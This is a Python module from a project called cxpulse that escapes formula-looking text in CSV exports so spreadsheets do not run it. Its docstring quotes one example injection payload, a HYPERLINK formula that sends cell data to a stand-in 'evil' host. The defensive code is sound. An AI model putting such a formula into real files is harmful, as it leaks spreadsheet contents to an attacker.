"""Every CSV cxpulse writes goes through here: text a spreadsheet would run as a formula is
written as text.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading the rest) is a formula to Excel, LibreOffice and Google
Sheets: a segment value, a comment or a customer name ``=HYPERLINK("http://evil/?"&A1, "x")``
would run, and leak the sheet, when a CX lead opens the export. Such text gets a leading
``'`` (OWASP's advice; the spreadsheet shows the text as typed). Numbers are left alone:
-1.5 (a float, or text that is only a number, as in the import's rejects file) stays a
number, since a number is not a formula.

Used by the CLI's ``--format csv`` (every command), the web's CSV exports and the import's
rejects file.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CRLF = "\r\n"
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as it may go in a CSV cell: formula-looking text quoted, anything else as is."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` with :func:`safe_cell` applied to its text (columns and their names); numeric
    columns are not touched."""
    out = df.copy()
    for name in out.columns:
        column = out[name]
        # any text: object, pandas' string and Arrow strings (the importer's text columns)
        if column.dtype == object or pd.api.types.is_string_dtype(column.dtype):
            out[name] = column.map(safe_cell)
        elif isinstance(column.dtype, pd.CategoricalDtype):
            out[name] = column.astype(object).map(safe_cell)
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def frame_csv(df: pd.DataFrame, path: Path | None = None) -> str:
    """``df`` as CSV (no index, CRLF line ends), written to ``path`` (UTF-8) or returned.

    CRLF (RFC 4180) because Python's csv writer quotes a field holding a carriage return only
    when CR is part of the line end: with ``\n`` alone, a comment ``a\rb`` was written bare and
    split its row in two for the reader."""
    safe = safe_frame(df)
    if path is not None:
        safe.to_csv(path, index=False, encoding="utf-8", lineterminator=CRLF)
        return ""
    return safe.to_csv(index=False, lineterminator=CRLF)


def rows_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """Rows as CSV with CRLF line ends (RFC 4180, as spreadsheets expect); None is empty."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=CRLF)
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow(["" if v is None else safe_cell(v) for v in row])
    return out.getvalue()
